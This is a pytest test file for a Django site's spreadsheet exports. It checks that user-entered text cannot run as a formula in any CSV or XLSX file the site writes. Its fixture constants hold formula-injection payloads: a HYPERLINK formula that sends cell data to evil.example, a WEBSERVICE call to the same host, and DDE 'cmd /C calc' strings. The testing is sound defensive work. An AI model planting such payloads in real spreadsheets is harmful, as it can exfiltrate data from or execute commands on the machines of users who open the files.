"""No CSV or XLSX file the site writes holds a cell a spreadsheet would run as a formula.

`plant()` puts formula text (`=HYPERLINK(…)`, `+…`, `-…`, `@…`, a leading tab, carriage return
or space, full-width ＝＋) into every user-supplied text that reaches a CSV or XLSX file: region,
plan, strategy, task, KPI and unit names, plan visions, KPI and budget sources, values' notes and
sources, a series source. Each file is then fetched by whoever may fetch it. No CSV cell may
start like a formula (a quoted `'=…` is text), no XLSX cell may be a formula and every
formula-like XLSX text must carry Excel's quote-prefix flag; the planted text must be there
(so the test proves something) and a negative value must still be a number. Agency names and
review comments reach no spreadsheet. The rule itself: core/spreadsheets.py.
"""

import csv
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from core.spreadsheets import append_row, needs_quote, safe_cell, unquote
from imports import checks, reading
from indicators.models import Indicator, Observation, SeriesValue, Unit
from plans.models import Budget, Plan, Strategy, Task
from regions.models import Region
from tests import factories

# An index may be negative (with a note): the value that must stay a number in every file.
PLAN, KPI, REGION, SERIES = "busan-2", "se_talent_flow_index", "26", "rcostii_rank"
HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"보기")'
URL_FORMULA = '=WEBSERVICE("https://evil.example/")'
# What Excel, LibreOffice or Google Sheets may read as a formula.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
NOTES = ["=1+1", "-x", "@SUM(A1)", "+82-2-1234"]
NEGATIVE = Decimal("-3.5")

PLANTED = {
    "region_ko": HYPERLINK,
    "region_en": "+1+cmd|' /C calc'!A0",
    "region_short": "-2+3",
    "plan_ko": "=1+1 계획",
    "plan_en": "-2+3 plan",
    "vision_ko": "@SUM(A1:A9)",
    "vision_en": " =1+1",
    "strategy_ko": "\t=1+1 전략",
    "strategy_en": "\r=1+1 strategy",
    "task_ko": "＝1+1 과제",
    "task_en": "＋1+1 task",
    "kpi_ko": HYPERLINK,
    "kpi_en": "-1+cmd|' /C calc'!A0",
    "unit": "@1",
    "note": "=1+1",
}


def runs_as_formula(text: str) -> bool:
    """Whether a spreadsheet program could take this cell text for a formula."""
    if PLAIN_NUMBER.fullmatch(text):
        return False
    return text[:1] in TRIGGERS or text.lstrip()[:1] in TRIGGERS


def plant(*, secretariat, ministry) -> int:
    """Formula text in every field that reaches a spreadsheet; returns the approved year."""
    plan = Plan.objects.get(key=PLAN)
    Region.objects.filter(code=REGION).update(
        name_ko=PLANTED["region_ko"],
        name_en=PLANTED["region_en"],
        short_ko=PLANTED["region_short"],
        short_en=PLANTED["region_short"],
    )
    Plan.objects.filter(pk=plan.pk).update(
        name_ko=PLANTED["plan_ko"],
        name_en=PLANTED["plan_en"],
        vision_ko=PLANTED["vision_ko"],
        vision_en=PLANTED["vision_en"],
    )
    strategy = Strategy.objects.filter(plan=plan).order_by("number").first()
    Strategy.objects.filter(pk=strategy.pk).update(
        name_ko=PLANTED["strategy_ko"], name_en=PLANTED["strategy_en"]
    )
    task = Task.objects.filter(strategy=strategy).order_by("number").first()
    Task.objects.filter(pk=task.pk).update(name_ko=PLANTED["task_ko"], name_en=PLANTED["task_en"])
    indicator = factories.seed_kpi(PLAN, KPI)
    Unit.objects.filter(pk=indicator.unit_id).update(
        symbol_ko=PLANTED["unit"], symbol_en=PLANTED["unit"]
    )
    Indicator.objects.filter(pk=indicator.pk).update(
        name_ko=PLANTED["kpi_ko"], name_en=PLANTED["kpi_en"], sources=[URL_FORMULA]
    )
    Budget.objects.update(sources=[URL_FORMULA])  # the seed has the national plan's
    SeriesValue.objects.filter(series=SERIES, region_id=REGION).update(source=URL_FORMULA)
    indicator = factories.seed_kpi(PLAN, KPI)

    years = list(indicator.entry_years)
    approved_year = years[0]
    factories.value(
        indicator,
        approved_year,
        str(NEGATIVE),
        by=secretariat,
        to="approved",
        reviewer=ministry,
        note="-3.5 추정",
    )
    for year, note in zip(years[1:], NOTES, strict=False):
        factories.value(indicator, year, "2.5", by=secretariat, note=note)
    # Sources are web addresses when entered; older or admin-edited rows need not be.
    Observation.objects.filter(indicator=indicator).update(source=URL_FORMULA)
    return approved_year


@pytest.fixture
def planted(busan, ministry):
    return plant(secretariat=busan.user, ministry=ministry.user)


def csv_cells(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = (
        b"".join(response.streaming_content) if response.streaming else response.content
    ).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content, newline="")))


def assert_csv_safe(rows: list[list[str]], path: str) -> list[str]:
    """No cell runs as a formula; returns the cells that carried planted text (quoted)."""
    cells = [cell for row in rows for cell in row]
    assert cells, path
    for cell in cells:
        assert not runs_as_formula(cell), f"{path}: {cell!r} would run as a formula"
    return [cell for cell in cells if cell[:1] == "'" and runs_as_formula(cell[1:])]


def assert_xlsx_safe(content: bytes) -> list[openpyxl.cell.Cell]:
    """No formula cell; formula-like texts are quote-prefixed text. Returns the cells."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), f"{name} holds a formula"
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    for cell in cells:
        assert cell.data_type != "f", f"{cell.coordinate}: {cell.value!r} is a formula"
        if isinstance(cell.value, str):
            assert cell.data_type == "s", f"{cell.coordinate}: {cell.value!r}"
            if runs_as_formula(cell.value):
                assert cell.quotePrefix, f"{cell.coordinate}: {cell.value!r} is not quote-prefixed"
    return cells


# --- The rule -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+82-2-1234",
        "-x",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\n=1+1",
        "\u3000=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "-",
        "- 3.5",
        "-1e5",
        "-3.5+1",
        "'=1+1",
        "' =1+1",
    ],
)
def test_it_quotes_text_that_could_run_as_a_formula(text):
    assert needs_quote(text)
    assert safe_cell(text) == "'" + text
    assert unquote(safe_cell(text)) == text


@pytest.mark.parametrize(
    "text", ["", "hello", "비고", "1+1", "1-2", "a=b", "'quoted'", "'", " note", "-3.5", "-3", "0"]
)
def test_it_leaves_other_text_and_plain_numbers_alone(text):
    assert not needs_quote(text)
    assert safe_cell(text) == text
    assert unquote(text) == text


@pytest.mark.parametrize("value", [NEGATIVE, Decimal("-0.001"), -3, 2024, None, True, 1.5])
def test_it_never_changes_numbers_or_other_values(value):
    assert safe_cell(value) is value


def test_unquote_gives_back_every_text_safe_cell_wrote():
    texts = [
        prefix + body
        for prefix in ("", "'", "''", " ", "\t", "' ")
        for body in ("=1", "-x", "-3.5", "abc", "@", "＝", "", "'=", " -1")
    ]
    for text in texts:
        assert unquote(safe_cell(text)) == text, repr(text)


def test_openpyxl_would_store_an_equals_text_as_a_formula_but_append_row_does_not():
    book = openpyxl.Workbook()
    book.active.append(["=1+1"])
    assert book.active["A1"].data_type == "f"  # the danger append_row guards against
    append_row(book.active, ["=1+1", "'=1+1", "plain", NEGATIVE, 2024])
    cells = list(book.active[2])
    assert [c.data_type for c in cells] == ["s", "s", "s", "n", "n"]
    assert [c.value for c in cells[:3]] == ["=1+1", "''=1+1", "plain"]
    assert [c.quotePrefix for c in cells[:3]] == [True, True, False]


# --- Every file the site writes --------------------------------------------------------------


API_PATHS = [
    "/api/v1/regions/?format=csv",
    f"/api/v1/regions/{REGION}/?format=csv",
    "/api/v1/plans/?format=csv",
    f"/api/v1/plans/{PLAN}/?format=csv",
    f"/api/v1/indicators/?format=csv&plan={PLAN}",
    f"/api/v1/observations/?format=csv&plan={PLAN}",
    "/api/v1/budgets/?format=csv",
    f"/api/v1/series/?format=csv&series={SERIES}&region={REGION}",
]


@pytest.mark.parametrize("path", API_PATHS)
def test_the_api_csv_quotes_planted_formulas(planted, busan, path):
    rows = csv_cells(busan.get(path))
    carried = assert_csv_safe(rows, path)
    assert carried, f"{path} carries none of the planted text: the test would prove nothing"


def test_the_api_csv_keeps_a_negative_value_a_number(planted, busan):
    indicator = Indicator.objects.get(plan__key=PLAN, key=KPI)
    path = f"/api/v1/observations/?format=csv&indicator={indicator.pk}&year={planted}"
    header, row = csv_cells(busan.get(path))
    assert row[header.index("value")] == "-3.5"
    assert row[header.index("source")] == "'" + URL_FORMULA
    assert row[header.index("note")] == "'-3.5 추정"  # starts like a number, is not one


def test_the_values_export_quotes_sources_and_keeps_values_numbers(planted, anonymous):
    rows = csv_cells(anonymous.get("/data/kpi-values.csv"))
    assert_csv_safe(rows, "/data/kpi-values.csv")
    planted_rows = [r for r in rows if r[0] == PLAN and r[2] == KPI and r[3] == str(planted)]
    assert planted_rows == [[PLAN, REGION, KPI, str(planted), "-3.5", "'" + URL_FORMULA]]


CHARTS = [
    ("kpi", f"?plan={PLAN}&kpi={KPI}", False),
    ("status", "", True),
    ("map", f"?series={SERIES}&year=2022", True),
    ("investment", "", False),
    ("alignment", "", True),
    ("compare-bars", f"?series={SERIES}&year=2022", True),
    ("compare-lines", f"?series={SERIES}", True),
]


@pytest.mark.parametrize(("kind", "query", "carries_text"), CHARTS)
@pytest.mark.parametrize("language", ["", "/en"])
def test_chart_csv_quotes_planted_formulas(planted, anonymous, kind, query, carries_text, language):
    path = f"{language}/charts/{kind}/data.csv{query}"
    rows = csv_cells(anonymous.get(path))
    carried = assert_csv_safe(rows, path)
    if carries_text:
        assert carried, f"{path} carries none of the planted text: the test would prove nothing"


def test_the_kpi_chart_csv_keeps_a_negative_value_a_number(planted, anonymous):
    rows = csv_cells(anonymous.get(f"/charts/kpi/data.csv?plan={PLAN}&kpi={KPI}"))
    assert [str(planted), "-3.5", "approved"] in rows


def test_the_template_csv_quotes_planted_formulas(planted, busan):
    rows = csv_cells(busan.get(reverse("import_template", args=["csv"])))
    carried = assert_csv_safe(rows, "template.csv")
    for text in (PLANTED["kpi_ko"], PLANTED["unit"], URL_FORMULA, *NOTES):
        assert "'" + text in carried, text
    assert any(row[5] == "-3.5" for row in rows)


def test_the_template_xlsx_holds_no_formula(planted, busan):
    response = busan.get(reverse("import_template", args=["xlsx"]))
    assert response.status_code == 200
    cells = assert_xlsx_safe(response.content)
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    for text in (PLANTED["kpi_ko"], PLANTED["unit"], URL_FORMULA, *NOTES):
        assert text in texts, text
    assert any(cell.value == -3.5 and cell.data_type == "n" for cell in cells)


def test_the_report_workbook_holds_no_formula(planted, busan):
    report = factories.report(PLAN, planted)
    response = busan.get(reverse("report_download", args=[PLAN, report.pk]))
    assert response.status_code == 200
    cells = assert_xlsx_safe(response.content)
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    for key in ("plan_ko", "plan_en", "vision_ko", "vision_en", "kpi_ko", "kpi_en"):
        assert PLANTED[key] in texts, key
    assert URL_FORMULA in texts  # KPI, value and budget sources
    assert any(PLANTED["strategy_ko"] in text for text in texts)  # "1. <name>": not a formula
    assert any(cell.value == -3.5 and cell.data_type == "n" for cell in cells)


# --- Our own template comes back unchanged ------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_template_round_trips_formula_notes_and_a_negative_value(planted, busan, fmt):
    content = busan.get(reverse("import_template", args=[fmt])).content
    rows = reading.parse_upload(file_name=f"template.{fmt}", content=content)
    checked = checks.check_rows(rows=rows, user=busan.user)
    mine = [c for c in checked if c.plan == PLAN and c.kpi == KPI and c.value is not None]
    indicator = Indicator.objects.get(plan__key=PLAN, key=KPI)
    stored = {
        o.year: (o.value, o.note, o.source) for o in Observation.objects.filter(indicator=indicator)
    }
    assert {c.year: (c.value, c.note, c.source) for c in mine} == stored
    assert {c.note for c in mine} == {"-3.5 추정", *NOTES}
    assert {c.value for c in mine} == {NEGATIVE, Decimal("2.5")}
    # Every unchanged row reads as unchanged (the approved one is locked, as always).
    drafts = [c for c in mine if c.year != planted]
    assert {c.action for c in drafts} == {checks.Action.UNCHANGED}, [c.problems for c in drafts]


def test_a_csv_from_excel_reads_the_text_the_user_typed(busan):
    # Typed `'=abc` in Excel: saved as `=abc`, or as `'=abc` by a program that keeps the quote.
    content = "plan,kpi,year,value,note\nbusan-2,x,2024,1,'=abc\nbusan-2,x,2025,1,=abc\n"
    rows = reading.parse_upload(file_name="values.csv", content=content.encode())
    assert [row["note"] for row in rows] == ["=abc", "=abc"]


def test_an_xlsx_from_excel_reads_the_text_the_user_typed():
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["plan", "kpi", "year", "value", "note"])
    append_row(sheet, ["busan-2", "x", 2024, NEGATIVE, "=abc"])  # as Excel stores `'=abc`
    append_row(sheet, ["busan-2", "x", 2025, -3, "'=abc"])  # `'=abc` itself, quoted once more
    buffer = io.BytesIO()
    book.save(buffer)
    rows = reading.parse_upload(file_name="values.xlsx", content=buffer.getvalue())
    assert [(row["value"], row["note"]) for row in rows] == [(NEGATIVE, "=abc"), (-3, "'=abc")]
